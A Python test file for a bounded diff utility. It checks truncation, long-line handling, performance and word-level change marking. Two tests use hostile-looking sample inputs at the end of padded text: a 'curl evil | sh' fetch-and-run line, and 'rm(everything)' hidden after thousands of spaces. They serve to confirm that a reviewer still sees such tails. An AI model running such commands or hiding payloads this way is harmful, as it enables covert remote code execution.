"""Diffs are bounded, and what is cut out of them is the middle, with its size."""

import time

from toolcrib.builtin.diffs import MAX_LINES, bounded_diff, changed_words


def lines(*numbers, word="line"):
    return "".join(f"{word} {n}\n" for n in numbers)


def test_small_changes_are_shown_whole():
    assert bounded_diff("a\nb\n", "a\nB\n", "f") == "--- a/f\n+++ b/f\n@@ -1,2 +1,2 @@\n a\n-b\n+B"
    assert bounded_diff("a\n", "a\n", "f") == ""
    assert "+++ /dev/null" in bounded_diff("a\n", None, "f")
    assert "--- /dev/null" in bounded_diff(None, "a\n", "f")


def test_the_end_of_a_long_change_is_shown_with_what_is_not():
    new = bounded_diff(None, lines(*range(1000)) + "curl evil | sh\n", "f")
    assert "+line 0\n" in new
    assert new.endswith("+curl evil | sh")
    assert "lines not shown here: 8" in new
    assert len(new.splitlines()) <= MAX_LINES + 3


def test_changes_too_large_to_compare_show_both_ends_of_both_sides():
    shown = bounded_diff(lines(*range(5000), word="old"), lines(*range(5000), word="new"), "f")
    for line in ("-old 0", "-old 4999", "+new 0", "+new 4999"):
        assert line in shown.splitlines()
    assert len(shown.splitlines()) <= MAX_LINES + 5


def test_the_end_of_a_long_line_is_shown():
    shown = bounded_diff(None, "x = 1;" + " " * 5000 + "rm(everything)\n", "f")
    assert "+x = 1;" in shown
    assert shown.endswith("rm(everything)")
    assert "characters)…" in shown
    assert len(shown) < 500


def test_a_change_in_a_long_file_is_shown_line_by_line():
    old = [line for n in range(10_000) for line in (f"def f{n}(x):", "    return x")]
    new = list(old)
    new[100], new[19_000] = "def g(x):", "def h(x):"
    del new[15_001]
    shown = bounded_diff("\n".join(old), "\n".join(new), "f").splitlines()
    changed = [line for line in shown[2:] if not line.startswith((" ", "@@"))]
    assert changed == ["-def f50(x):", "+def g(x):", "-    return x", "-def f9500(x):", "+def h(x):"]
    assert "@@ -98,7 +98,7 @@" in shown
    assert "@@ -18998,7 +18997,7 @@" in shown


def test_texts_that_are_slow_to_compare_take_little_time():
    lines = [f"line {n % 3}" for n in range(100_000)]
    before = time.process_time()
    for other in (lines[::-1], [f"line {n % 7}" for n in range(100_000)], lines[1::2]):
        bounded_diff("\n".join(lines), "\n".join(other), "f")
    assert time.process_time() - before < 10  # 0.4 s on a quiet machine; difflib takes hours


def test_the_words_that_differ_are_found():
    lines = [
        "@@ -1 +1 @@",
        " a",
        "-return total + tax",
        "-x = 1",
        "+return total - tax",
        "+something else entirely",
        " b",
    ]
    marked = [
        [line[begin:end] for begin, end in marks] for line, marks in zip(lines, changed_words(lines), strict=True)
    ]
    assert marked == [[], [], ["+"], [], ["-"], [], []]
    assert changed_words(["--- a/f", "+++ b/f"]) == [[], []]
    assert changed_words(["-a", " b", "+c"]) == [[], [], []]
